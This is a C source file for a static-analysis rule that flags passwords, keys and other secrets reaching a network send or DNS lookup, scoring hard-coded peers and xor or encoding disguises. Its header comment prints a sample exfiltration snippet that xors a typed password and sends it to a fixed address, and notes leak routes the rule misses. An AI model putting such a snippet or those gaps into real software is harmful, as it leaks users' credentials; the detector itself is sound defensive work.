/* exfil/secret-to-network: a secret leaves for a peer nobody configured.
 *
 *     char *word = getpass("Password: ");
 *     for (size_t i = 0; word[i]; i++)
 *         word[i] ^= 0x5a;
 *     peer.sin_addr.s_addr = inet_addr("203.0.113.7");
 *     sendto(fd, word, strlen(word), 0, (struct sockaddr *)&peer, sizeof peer);
 *
 * Not caught: a secret that travels one bit at a time through conditions, or through a file.
 */
#include "checkers/ask.h"

/* A secret that chooses from a table is encoded by it, so VT_TAG_INDEX is data here. */
#define NOT_DATA ((VT_ABOUT_DATA | VT_TAG_HANDLE) & ~(uint32_t)VT_TAG_INDEX)

/* A flow that may have to be told: the question, and one of its answers. */
struct flow {
    struct vt_asked asked;
    const struct vt_trace *trace;
    const struct vt_source *source;
};

/* True if what the source of FLOW read is a secret by its name, a KIND of thing that role ROLE, or
 * FIELD of its handle, names. FLOW becomes a way on which it is. */
static bool reads_secret(struct vt_check *check, struct flow *flow, const char *kind,
                         enum vt_role role, const char *field) {
    struct vt_naming naming = {.sink = flow->asked,
                               .origin = flow->source->event,
                               .role = role,
                               .field = field,
                               .kind = kind,
                               .class_name = "secret"};
    return vt_ask_naming(vt_check_program(check), &naming, vt_check_arena(check), &flow->trace,
                         &flow->source);
}

/* What the secret is, for people; NULL if the source of FLOW is none. */
static const char *name_secret(struct vt_check *check, struct flow *flow) {
    struct vt_program *program = vt_check_program(check);
    if (vt_source_is(program, flow->source, VT_FACT_ORIGIN, "secret.credential"))
        return "A credential";
    if (vt_source_is(program, flow->source, VT_FACT_ORIGIN, "secret.key"))
        return "A secret key";
    if (vt_source_is(program, flow->source, VT_FACT_ORIGIN, "io.read") &&
        reads_secret(check, flow, "file", VT_ROLE_HANDLE, "path"))
        return "The content of a file of secrets";
    if (vt_source_is(program, flow->source, VT_FACT_ORIGIN, "environment") &&
        reads_secret(check, flow, "variable", VT_ROLE_TARGET, NULL))
        return "A credential of the environment";
    return NULL;
}

static int weigh_peer(struct vt_check *check, struct vt_finding *finding, const struct flow *flow) {
    size_t nsteps;
    const struct vt_flow_step *steps =
        vt_trace_steps(flow->trace, flow->source, vt_check_arena(check), &nsteps);
    struct vt_peer peer = vt_ask_peer_at(vt_check_program(check), flow->asked.ref, steps, nsteps);
    switch (peer.kind) {
    case VT_PEER_CONSTANT:
        vt_finding_evidence(check, finding, "constant-peer", 30,
                            "The peer is written in the program%s%s.", *peer.name ? ": " : "",
                            peer.name);
        if (peer.concealed)
            vt_finding_evidence(check, finding, "concealed-peer", 20,
                                "The peer is decoded before it is used.");
        return 45;
    case VT_PEER_CONFIGURED:
        return 5;
    case VT_PEER_LOCAL:
        return 0;
    case VT_PEER_CALLER:
        return 25;
    default:
        return 45;
    }
}

static void weigh_disguise(struct vt_check *check, struct vt_finding *finding, uint32_t tags) {
    if (tags & VT_TAG_XOR)
        vt_finding_evidence(check, finding, "xored", 15, "It is xored on the way.");
    if (tags & VT_TAG_ENCODE)
        vt_finding_evidence(check, finding, "encoded", 10, "It is encoded on the way.");
    if (tags & VT_TAG_ENCRYPT)
        vt_finding_evidence(check, finding, "encrypted", 5,
                            "It is encrypted on the way; whoever has the key reads it.");
}

static void report(struct vt_check *check, const struct flow *flow, const char *secret) {
    struct vt_finding *finding = vt_finding_new(check, flow->asked.ref);
    bool in_name = flow->asked.role == VT_ROLE_PEER;
    int base = weigh_peer(check, finding, flow);
    if (in_name) {
        base = 60;
        vt_finding_evidence(check, finding, "in-name", 20,
                            "It is part of the name that a resolver is asked for.");
    }
    weigh_disguise(check, finding, flow->source->tags);
    vt_finding_message(check, finding, "%s from `%s` reaches the network.", secret,
                       vt_source_function(vt_check_program(check), flow->source));
    vt_finding_path(check, finding, flow->trace, flow->source, "The secret is read here",
                    in_name ? "It is sent as part of a name to resolve" : "It is sent here");
    vt_finding_send(check, finding, base);
}

static void look_at(struct vt_check *check, struct vt_event_ref ref, enum vt_role role) {
    size_t count = 0;
    struct vt_asked asked = {.ref = ref, .role = role, .avoid = NOT_DATA, .value_only = true};
    const struct vt_trace *trace = vt_trace_value(vt_check_program(check), ref, role, NOT_DATA);
    const struct vt_source *sources = trace ? vt_trace_sources(trace, &count) : NULL;
    for (size_t i = 0; i < count; i++) {
        struct flow flow = {asked, trace, &sources[i]};
        const char *secret = name_secret(check, &flow);
        if (secret) {
            report(check, &flow, secret);
            return; /* one finding a place; the nearest secret tells the story */
        }
    }
}

static void run(struct vt_check *check) {
    struct vt_program *program = vt_check_program(check);
    struct vt_arena *arena = vt_check_arena(check);
    size_t count;
    struct vt_event_ref *refs =
        vt_program_events(program, VT_FACT_EFFECT, "net.send", arena, &count);
    for (size_t i = 0; i < count; i++)
        look_at(check, refs[i], VT_ROLE_PAYLOAD);
    refs = vt_program_events(program, VT_FACT_EFFECT, "io.write", arena, &count);
    for (size_t i = 0; i < count; i++)
        if (vt_handle_is(program, refs[i], "socket") || vt_handle_is(program, refs[i], "tls"))
            look_at(check, refs[i], VT_ROLE_PAYLOAD);
    refs = vt_program_events(program, VT_FACT_EFFECT, "net.resolve", arena, &count);
    for (size_t i = 0; i < count; i++)
        look_at(check, refs[i], VT_ROLE_PEER);
}

const struct vt_rule vt_exfil_secret_to_network = {
    .id = "exfil/secret-to-network",
    .name = "SecretToNetwork",
    .summary = "A password, key or other secret is sent over the network",
    .description =
        "Something that only this host should know (a password that was typed, a stored hash, a "
        "private key, a file of secrets) reaches a network send or the name a resolver is asked "
        "for. Encoding or encrypting it on the way does not make it stay. A peer that is written "
        "in "
        "the program rather than configured speaks for a hidden channel.",
    .help = "Say in the declaration which service gets this secret and why, or remove the flow. If "
            "the peer is configured, let it come from the configuration on every path.",
    .cwe = "CWE-201,CWE-506",
    .precision = "high",
    .severity = 9.1,
    .run = run,
};
